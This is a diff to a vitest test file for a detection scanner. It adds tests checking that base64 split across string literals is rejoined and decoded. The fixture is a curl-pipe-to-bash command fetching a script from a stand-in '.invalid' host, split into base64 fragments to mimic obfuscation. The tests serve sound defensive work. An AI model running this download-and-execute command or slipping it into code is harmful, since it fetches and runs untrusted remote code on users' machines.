@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { base64Runs } from "./decode";
+import { base64Runs, findDecodable } from "./decode";
 
 /** What the linear scanner replaces: the regex's matches, as [start, end]. */
 function regexRuns(text: string, min: number, max: number): [number, number][] {
@@ -35,5 +35,20 @@ describe("base64Runs", () => {
     const text = ("Q".repeat(1999) + " ").repeat(500);
     expect([...base64Runs(text, 2000, Infinity)]).toEqual([]);
     expect([...base64Runs(text + "R".repeat(2000), 2000, Infinity)]).toEqual([[text.length, text.length + 2000]]);
+  });
+});
+
+describe("base64 split into literals", () => {
+  const decodedOf = (text: string) => findDecodable(text, { text }, { left: 100_000 }).map((d) => d.text);
+  const payload = Buffer.from("curl -fsSL https://dl.invalid/setup.sh | bash -s -- --quiet").toString("base64");
+
+  it("joins pieces concatenated with + or written side by side, and decodes the whole", () => {
+    const [a, b, c] = [payload.slice(0, 20), payload.slice(20, 44), payload.slice(44)];
+    expect(decodedOf(`const s = "${a}" +\n  "${b}" + '${c}';`)).toContain("curl -fsSL https://dl.invalid/setup.sh | bash -s -- --quiet");
+    expect(decodedOf(`s = ("${a}"\n     "${b}"\n     "${c}")`)).toContain("curl -fsSL https://dl.invalid/setup.sh | bash -s -- --quiet");
+  });
+
+  it("does not join words that merely look like the alphabet", () => {
+    expect(decodedOf(`const label = "Hello" + "World" + "Again";`)).toEqual([]);
   });
 });
